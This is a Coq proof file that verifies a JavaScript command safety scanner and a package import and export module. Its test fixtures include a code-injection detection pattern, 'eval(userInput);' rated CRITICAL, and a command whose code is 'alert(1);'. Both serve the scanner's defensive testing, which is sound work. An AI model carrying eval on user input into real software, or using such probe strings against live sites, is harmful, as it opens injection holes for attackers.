End ScannerInvariants.

Section ScannerInvariantsExamples.
Import Js Scanner ScannerSpec Checks.

Lemma performSafetyCheck_tally_witness :
  exists report,
    performSafetyCheck sampleMatches noInference (constructor None) sampleCommands
    = Ok report /\
    List.length (commandReports report) = 2%nat /\
    totalIssues report = allFindings (commandReports report).
Proof.
  destruct (performSafetyCheck sampleMatches noInference (constructor None)
              sampleCommands) as [r|e] eqn:E; [|vm_compute in E; discriminate E].
  destruct (performSafetyCheck_tally sampleMatches noInference (constructor None)
              sampleCommands r) as (_ & Hl & Ht & _).
  - intros command code. eexists. reflexivity.
  - exact E.
  - exists r. split; [reflexivity|]. split; [exact Hl|exact Ht].
Defined.


Lemma critical_pattern_blocks_auto_approval_witness :
  exists report,
    performSafetyCheck evalMatches noInference (constructor None)
      [refreshCommand; evalCommand] = Ok report /\
    autoApprove report = false.
Proof.
  destruct (performSafetyCheck evalMatches noInference (constructor None)
              [refreshCommand; evalCommand]) as [r|e] eqn:E;
    [|vm_compute in E; discriminate E].
  exists r. split; [reflexivity|].
  refine (proj1 (critical_pattern_blocks_auto_approval evalMatches noInference
                   (constructor None) eq_refl [refreshCommand; evalCommand] r
                   evalCommand "eval(userInput);"
                   {| pattern := EvalCall; d_severity := "CRITICAL";
                      d_category := "Code Injection"; points := 50 |}
                   E _ eq_refl _ _ eq_refl _)).
  - right. now left.
  - discriminate.
  - now left.
  - vm_compute. discriminate.
Defined.

Lemma clean_collection_is_approved_witness :
  exists report,
    performSafetyCheck evalMatches noInference (constructor None) [refreshCommand]
    = Ok report /\
    safetyScore report = 100 /\ autoApprove report = true.
Proof.
  destruct (performSafetyCheck evalMatches noInference (constructor None)
              [refreshCommand]) as [r|e] eqn:E; [|vm_compute in E; discriminate E].
  destruct (clean_collection_is_approved evalMatches noInference (constructor None)
              eq_refl [refreshCommand] r E) as (H1 & _ & H3 & _).
  - constructor; [|constructor]. intros text [= <-]. vm_compute. reflexivity.
  - exists r. split; [reflexivity|]. split; [exact H1|exact H3].
Defined.

End ScannerInvariantsExamples.

(** ** The package manager: import, export and creation *)

Section PackageInvariants.
Import Js Json Crypto Packages PackagesSpec Checks.

Lemma validateCommands_iff commands : forall index,
  validateCommands index commands = Ok tt <-> Forall storesCommand commands.
Proof.
  induction commands as [|cmd rest IH]; intros index; cbn [validateCommands].
  - split; [constructor|reflexivity].
  - unfold bind. split.
    + destruct (getProp cmd "name") as [cname|] eqn:En; [|discriminate].
      destruct (truthyValue cname) eqn:Tn; cbn [negb]; [|discriminate].
      destruct (getProp cmd "code") as [ccode|] eqn:Ec; [|discriminate].
      destruct (truthyValue ccode) eqn:Tc; cbn [negb]; [|discriminate].
      intros H. constructor; [|now apply (IH (S index))].
      split.
      * destruct cname as [v|]; [|discriminate]. exists v. auto.
      * destruct ccode as [v|]; [|discriminate]. exists v. auto.
    + intros H. inversion H as [|? ? [(n & Hn & Tn) (c & Hc & Tc)] Hrest]; subst.
      rewrite Hn, Tn. cbn [negb]. rewrite Hc, Tc. cbn [negb]. now apply IH.
Qed.

Lemma validatePackage_wellFormed pkg :
  validatePackage pkg = Ok tt <-> wellFormedPackage pkg.
Proof.
  unfold validatePackage, wellFormedPackage, bind. split.
  - destruct (getProp pkg "version") as [pversion|] eqn:Ev; [|discriminate].
    destruct (truthyValue pversion) eqn:Tv; cbn [negb]; [|discriminate].
    destruct (getProp pkg "commands") as [pcommands|] eqn:Ec; [|discriminate].
    destruct (truthyValue pcommands) eqn:Tc; cbn [negb orb]; [|discriminate].
    destruct (isArray pcommands) eqn:Ea; cbn [negb]; [|discriminate].
    destruct pcommands as [[| | | |commands|]|]; try discriminate Ea.
    cbn [elements].
    destruct (List.length commands =? 0)%nat eqn:El; [discriminate|].
    destruct (validateCommands 0 commands) as [[]|] eqn:Evc; [|discriminate].
    destruct (getProp pkg "checksum") as [pchecksum|] eqn:Es; [|discriminate].
    intros H. split.
    + destruct pversion as [v|]; [|discriminate]. exists v. auto.
    + exists commands. split; [reflexivity|]. split.
      * intros ->. discriminate.
      * split; [now apply (validateCommands_iff commands 0%nat)|].
        exists pchecksum. split; [reflexivity|].
        destruct (truthyValue pchecksum) eqn:Ts; [right|now left].
        destruct pchecksum as [[| | |stored| |]|]; try discriminate H.
        destruct (String.eqb (generateChecksum commands) stored) eqn:E;
          [|discriminate H].
        apply String.eqb_eq in E. now subst.
  - intros [(v & Hv & Tv) (commands & Hc & Hne & Hall & c & Hs & Hsum)].
    rewrite Hv, Tv. cbn [negb]. rewrite Hc. cbn [truthyValue negb orb isArray elements].
    destruct commands as [|c0 rest]; [congruence|].
    cbn [List.length Nat.eqb].
    apply (validateCommands_iff _ 0%nat) in Hall. rewrite Hall, Hs.
    destruct Hsum as [Hf| ->]; [now rewrite Hf|].
    rewrite String.eqb_refl.
    now destruct (truthyValue (Some (JStr (generateChecksum (c0 :: rest))))).
Qed.

Lemma importPackage_valid files filePath pkg :
  importPackage files filePath = Ok pkg <->
  files filePath = Document pkg /\ validatePackage pkg = Ok tt.
Proof.
  unfold importPackage. split.
  - destruct (files filePath) as [| |doc]; try discriminate.
    unfold bind, try_catch.
    destruct (validatePackage doc) as [[]|] eqn:Ev; [|cbn; discriminate].
    cbn. intros [= <-]. auto.
  - intros [-> ->]. reflexivity.
Qed.

(** X27.  [importPackage] returns a package exactly when the file holds
    it and it is well formed: a truthy version, a non-empty array of
    commands that each have a truthy name and truthy code, and a checksum
    that is falsy or equal to the SHA-256 digest of the stored commands.
    The package returned is the document of the file, unchanged. *)
Theorem importPackage_accepts files filePath pkg :
  importPackage files filePath = Ok pkg <->
  files filePath = Document pkg /\ wellFormedPackage pkg.
Proof. rewrite <- validatePackage_wellFormed. apply importPackage_valid. Qed.

Lemma exportPackage_json files pkg filePath format nowMs :
  toLowerCase format = "json" ->
  let path := if endsWith filePath ".json" then filePath else filePath ++ ".json" in
  exportPackage files pkg filePath format nowMs = Ok (path, writeFile files path pkg).
Proof. intros H. unfold exportPackage. rewrite H. reflexivity. Qed.

(** X28.  A package that [validatePackage] accepts survives the round
    trip in the [json] format (in any letter case): [exportPackage] writes
    one file whose path ends in [.json], leaves every other file as it
    was, and [importPackage] of that path returns the package. *)
Theorem json_export_round_trip files pkg filePath format nowMs :
  validatePackage pkg = Ok tt ->
  toLowerCase format = "json" ->
  exists path files',
    exportPackage files pkg filePath format nowMs = Ok (path, files') /\
    endsWith path ".json" = true /\
    importPackage files' path = Ok pkg /\
    (forall other, other <> path -> files' other = files other).
Proof.
  intros Hv Hf. rewrite (exportPackage_json files pkg filePath format nowMs Hf).
  cbv zeta. eexists. eexists. split; [reflexivity|]. split; [|split].
  - destruct (endsWith filePath ".json") eqn:E; [exact E|apply endsWith_append].
  - apply importPackage_valid. split; [|exact Hv].
    unfold writeFile. now rewrite String.eqb_refl.
  - intros other Hne. unfold writeFile. apply String.eqb_neq in Hne. now rewrite Hne.
Qed.

(** *** Object spread *)

Lemma lookup_assign_same k v kv : lookup k (assign k v kv) = Some v.
Proof.
  induction kv as [|[k' v'] rest IH]; cbn [assign lookup].
  - now rewrite String.eqb_refl.
  - destruct (String.eqb k k') eqn:E; cbn [lookup]; rewrite E; [reflexivity|exact IH].
Qed.

Lemma lookup_assign_other k k' v kv :
  k' <> k -> lookup k' (assign k v kv) = lookup k' kv.
Proof.
  intros Hne. induction kv as [|[k0 v0] rest IH]; cbn [assign lookup].
  - apply String.eqb_neq in Hne. now rewrite Hne.
  - destruct (String.eqb k k0) eqn:E; cbn [lookup].
    + apply String.eqb_eq in E. subst k0.
      apply String.eqb_neq in Hne. now rewrite Hne.
    + now rewrite IH.
Qed.

Lemma lookup_absent k kv : ~ In k (map fst kv) -> lookup k kv = None.
Proof.
  induction kv as [|[k' v'] rest IH]; cbn [lookup map fst In]; [reflexivity|].
  intros H. destruct (String.eqb k k') eqn:E.
  - apply String.eqb_eq in E. subst. tauto.
  - apply IH. tauto.
Qed.

Lemma lookup_spread extra : forall base k,
  NoDup (map fst extra) ->
  lookup k (spread base extra)
  = match lookup k extra with
    | Some v => Some v
    | None => lookup k base
    end.
Proof.
  unfold spread. induction extra as [|[k0 v0] rest IH]; intros base k Hnd;
    cbn [fold_left lookup fst snd]; [reflexivity|].
  cbn [map fst] in Hnd. inversion Hnd as [|? ? Hnotin Hrest]; subst.
  rewrite (IH _ _ Hrest).
  destruct (String.eqb k k0) eqn:E.
  - apply String.eqb_eq in E. subst k0.
    now rewrite (lookup_absent _ _ Hnotin), lookup_assign_same.
  - apply String.eqb_neq in E. now rewrite (lookup_assign_other _ _ _ _ E).
Qed.

(** X29.  In a created package every field of [packageInfo] that the
    caller supplies wins over the computed one, [createdAt] and
    [commandCount] included; the other fields carry the defaults. *)
Theorem createPackage_packageInfo commands kv now pkg :
  NoDup (map fst kv) ->
  createPackage constructor commands (JObj kv) now = Ok pkg ->
  exists defaults info,
    packageInfoDefaults (JObj kv) (List.length commands) now = Ok defaults /\
    getProp pkg "packageInfo" = Ok (Some (JObj info)) /\
    forall k,
      lookup k info
      = match lookup k kv with
        | Some v => Some v
        | None => lookup k defaults
        end.
Proof.
  intros Hnd. unfold createPackage, packageInfoDefaults.
  cbn [getProp bind ownProperties].
  destruct (mapResult (sanitizeCommand now) commands) as [sanitized|]; [|discriminate].
  intros [= <-]. eexists. eexists. split; [reflexivity|]. split; [reflexivity|].
  intros k. now apply lookup_spread.
Qed.

(** *** Identifiers *)

Lemma jsAdd_string (a b c : prim) :
  (exists s, jsAdd (jsAdd a b) c = PStr s) <->
  (exists s, a = PStr s) \/ (exists s, b = PStr s) \/ (exists s, c = PStr s).
Proof.
  split.
  - intros [s H]. destruct a as [| |[]|?| |?], b as [| |[]|?| |?], c as [| |[]|?| |?];
      cbn in H; try discriminate H; eauto.
  - intros [[s ->]|[[s ->]|[s ->]]].
    + destruct b, c; cbn; eauto.
    + destruct a, c; cbn; eauto.
    + destruct (jsAdd a b); cbn; eauto.
Qed.

Lemma stringLike_iff o :
  stringLike o = true <-> exists s, toPrimitive o = Ok (PStr s).
Proof.
  unfold stringLike. destruct (toPrimitive o) as [[| | | | |s]|]; split;
    try discriminate; eauto; intros [s' H]; discriminate H.
Qed.

Lemma generateCommandId_defined command :
  (exists i, generateCommandId command = Ok i) <->
  exists n c a,
    getProp command "name" = Ok n /\ getProp command "code" = Ok c /\
    getProp command "author" = Ok a /\
    convertible n /\ convertible c /\ convertible a /\
    (stringLike n || stringLike c || stringLike a) = true.
Proof.
  unfold generateCommandId, bind, convertible. split.
  - intros [i H].
    destruct (getProp command "name") as [n|]; [|discriminate].
    destruct (getProp command "code") as [c|]; [|discriminate].
    destruct (toPrimitive n) as [pn|] eqn:En; [|discriminate].
    destruct (toPrimitive c) as [pc|] eqn:Ec; [|discriminate].
    destruct (getProp command "author") as [a|]; [|discriminate].
    destruct (toPrimitive a) as [pa|] eqn:Ea; [|discriminate].
    exists n, c, a. repeat split; eauto.
    destruct (jsAdd _ _) as [| | | | |s] eqn:E; try discriminate.
    assert (Hs : exists s, jsAdd (jsAdd pn pc) pa = PStr s) by eauto.
    apply jsAdd_string in Hs. rewrite !orb_true_iff, !stringLike_iff, En, Ec, Ea.
    destruct Hs as [[s' ->]|[[s' ->]|[s' ->]]]; eauto.
  - intros (n & c & a & -> & -> & -> & [pn En] & [pc Ec] & [pa Ea] & H).
    rewrite En, Ec, Ea.
    rewrite !orb_true_iff, !stringLike_iff, En, Ec, Ea in H.
    assert (Hs : exists s, jsAdd (jsAdd pn pc) pa = PStr s).
    { apply jsAdd_string.
      destruct H as [[[s [= ->]]|[s [= ->]]]|[s [= ->]]]; eauto. }
    destruct Hs as [s ->]. eauto.
Qed.

(** X30.  [sanitizeCommand] (and with it [createPackage]) returns exactly
    when the command is not [null], its name, its code and its author each
    have a primitive value (none is, or holds in an array, an object with a
    property [toString] of its own), and one of the three turns into a
    string under [+]; otherwise the conversion throws, or the text to hash
    is no string and the digest throws, in spite of the defaults of the
    fields. *)
Theorem sanitizeCommand_defined now command :
  (exists s, sanitizeCommand now command = Ok s) <->
  exists n c a,
    getProp command "name" = Ok n /\ getProp command "code" = Ok c /\
    getProp command "author" = Ok a /\
    convertible n /\ convertible c /\ convertible a /\
    (stringLike n || stringLike c || stringLike a) = true.
Proof.
  rewrite <- generateCommandId_defined. unfold sanitizeCommand. split.
  - intros [s H]. destruct (generateCommandId command) as [i|]; [eauto|discriminate].
  - intros [i Hi]. rewrite Hi. cbn [bind].
    assert (Hn : exists v, getProp command "name" = Ok v).
    { unfold generateCommandId, bind in Hi.
      destruct (getProp command "name"); [eauto|discriminate]. }
    destruct Hn as [v Hn].
    repeat match goal with
           | |- context [getProp command ?k] =>
               destruct (getProp_defined command "name" v Hn k) as [? ->]; cbn [bind]
           end.
    eauto.
Qed.

End PackageInvariants.

Section PackageInvariantsExamples.
Import Js Json Crypto Packages PackagesSpec Checks.

Lemma json_export_round_trip_witness :
  exists path files',
    exportPackage noFiles (consistentPackage cliCommand) "dist/package" "JSON" 0
    = Ok (path, files') /\
    importPackage files' path = Ok (consistentPackage cliCommand).
Proof.
  destruct (json_export_round_trip noFiles (consistentPackage cliCommand) "dist/package"
              "JSON" 0) as (path & files' & H1 & _ & H3 & _).
  - vm_compute. reflexivity.
  - reflexivity.
  - exists path, files'. split; [exact H1|exact H3].
Defined.

Lemma createPackage_packageInfo_witness :
  exists pkg info,
    createPackage constructor [cliCommand]
      (JObj [("name", JStr "Mine"); ("commandCount", JNum 99)])
      "2025-01-02T00:00:00.000Z" = Ok pkg /\
    getProp pkg "packageInfo" = Ok (Some (JObj info)) /\
    lookup "commandCount" info = Some (JNum 99).
Proof.
  destruct (createPackage constructor [cliCommand]
      (JObj [("name", JStr "Mine"); ("commandCount", JNum 99)])
      "2025-01-02T00:00:00.000Z") as [pkg|] eqn:E; [|vm_compute in E; discriminate E].
  destruct (createPackage_packageInfo [cliCommand]
              [("name", JStr "Mine"); ("commandCount", JNum 99)]
              "2025-01-02T00:00:00.000Z" pkg) as (defaults & info & _ & Hi & Hk).
  - repeat constructor; cbn [In]; intuition discriminate.
  - exact E.
  - exists pkg, info. split; [reflexivity|]. split; [exact Hi|].
    rewrite Hk. reflexivity.
Defined.

(** A command with a description only has no text to hash: [createPackage]
    throws although [sanitizeCommand] has a default for every field. *)
Example createPackage_nameless_command :
  createPackage constructor [JObj [("description", JStr "Reloads the form")]]
    cliPackageInfo "2025-01-02T00:00:00.000Z"
  = Throw "The data argument must be of type string".
Proof. vm_compute. reflexivity. Qed.

(** [zip] is listed among the supported formats and refused by
    [exportPackage]. *)
Example exportPackage_zip :
  In "zip" (supportedFormats constructor) /\
  exportPackage noFiles (consistentPackage cliCommand) "dist/package" "zip" 0
  = Throw "Unsupported export format: zip".
Proof. split; [cbn; tauto|reflexivity]. Qed.

(** A name that is an object with a property [toString] of its own has
    no primitive value: the sum of name, code and author throws, although
    the code is a string. *)
Example sanitizeCommand_unconvertible_name :
  sanitizeCommand "2025-01-02T00:00:00Z"
    (JObj [("name", JObj [("toString", JNum 1)]); ("code", JStr "alert(1);")])
  = Throw "Cannot convert object to primitive value"
  /\ exists s,
       sanitizeCommand "2025-01-02T00:00:00Z"
         (JObj [("name", JObj [("title", JNum 1)]); ("code", JNum 7)]) = Ok s.
Proof. split; [reflexivity|]. eexists. vm_compute. reflexivity. Qed.

End PackageInvariantsExamples.
